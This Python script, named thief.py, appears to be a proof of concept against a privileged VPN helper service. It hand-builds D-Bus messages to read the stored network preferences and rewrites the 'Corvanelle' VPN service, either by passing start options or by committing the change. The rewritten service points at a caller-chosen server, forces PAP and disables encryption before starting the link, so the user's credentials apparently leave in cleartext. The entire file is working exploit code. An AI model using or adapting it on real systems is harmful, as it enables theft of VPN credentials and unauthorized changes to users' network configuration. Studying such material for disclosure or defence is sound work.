"""Starts a helper of its own and asks it for what a caller may not have: thief.py HELPER SERVER HOW

  options  starts the stored service "Corvanelle" with options: towards SERVER, with PAP, without encryption
  service  changes the stored service so, and starts it

It says what came of it: "refused CODE", "connected", or "ended with cause N".
"""
import plistlib
import socket
import struct
import subprocess
import sys

RETURN, ERROR, SIGNAL = 2, 3, 4
CONNECTED, DISCONNECTED = 2, 0


def padded(data, size):
    return data + bytes(-len(data) % size)


def text(value):
    return struct.pack("<I", len(value)) + value.encode() + b"\0"


def blob(value):
    return struct.pack("<I", len(value)) + value


class Helper:
    def __init__(self, program):
        ours, its = socket.socketpair()
        self.process = subprocess.Popen([program], stdin=its, close_fds=True)
        its.close()
        self.stream = ours.makefile("rwb")
        self.socket = ours
        self.serial = 0
        self.signals = []
        # All at once, as sd-bus has it: a call that comes together with BEGIN is only looked at when something follows it.
        self.write(b"\0AUTH EXTERNAL\r\nDATA\r\nBEGIN\r\n")
        while not self.stream.readline().startswith(b"OK"):
            pass

    def write(self, data):
        self.stream.write(data)
        self.stream.flush()

    def call(self, member, signature="", body=b""):
        """What the answer carries."""
        self.serial += 1
        fields = b""
        for number, kind, value in ((1, "o", "/vpnctl/Helper"), (2, "s", "vpnctl.Helper1"), (3, "s", member)):
            fields = padded(fields, 8) + bytes((number, 1)) + kind.encode() + b"\0" + text(value)
        if signature:
            fields = padded(fields, 8) + bytes((8, 1)) + b"g\0" + bytes((len(signature),)) + signature.encode() + b"\0"
        head = struct.pack("<cBBBIII", b"l", 1, 0, 1, len(body), self.serial, len(fields))
        self.write(padded(head + fields, 8) + body)
        while True:
            kind, answer = self.read()
            if kind == ERROR:
                sys.exit(f"thief: {member} is answered by an error")
            if kind == RETURN:
                return answer
            self.signals.append(answer)

    def read(self):
        head = self.stream.read(16)
        if len(head) < 16:
            sys.exit("thief: the helper has ended")
        _, kind, _, _, size, _, fields = struct.unpack("<cBBBIII", head)
        self.stream.read(fields + -fields % 8)
        return kind, self.stream.read(size)

    def states(self):
        """The statuses of the link and its extended statuses, as they come."""
        while True:
            body = self.signals.pop(0) if self.signals else self.read()[1]
            name = struct.unpack_from("<I", body)[0]
            at = 4 + name + 1 + -(4 + name + 1) % 4
            status, _, size = struct.unpack_from("<iiI", body, at)
            yield status, plistlib.loads(body[at + 12:at + 12 + size])


def stolen(entries, server):
    return {**entries, "CommRemoteAddress": server, "AuthProtocol": ["PAP"], "CCPEnabled": 0}


def main(program, server, how):
    helper = Helper(program)
    answer = helper.call("ReadPreferences")
    size = struct.unpack_from("<I", answer, 4)[0]
    root = plistlib.loads(answer[8:8 + size])
    service = next(key for key, entries in root["NetworkServices"].items()
                   if entries.get("UserDefinedName") == "Corvanelle")
    options = b""
    if how == "options":
        options = plistlib.dumps({"PPP": stolen({}, server)})
    else:
        entries = root["NetworkServices"][service]
        entries["PPP"] = stolen(entries["PPP"], server)
        code = struct.unpack_from("<i", helper.call("CommitPreferences", "ayay",
                                                    padded(blob(plistlib.dumps(root)), 4) + blob(b"")))[0]
        if code:
            sys.exit(f"thief: the commit is refused: {code}")
    body = padded(padded(text(service), 4) + blob(options), 4) + struct.pack("<I", 0)
    code = struct.unpack_from("<i", helper.call("StartLink", "sayb", body))[0]
    if code:
        print("refused", code)
    else:
        for status, extended in helper.states():
            if status == CONNECTED:
                print("connected")
                break
            if status == DISCONNECTED:
                print("ended with cause", extended["PPP"].get("LastCause"))
                break
    helper.stream.close()
    helper.socket.close()
    helper.process.wait()


main(*sys.argv[1:])
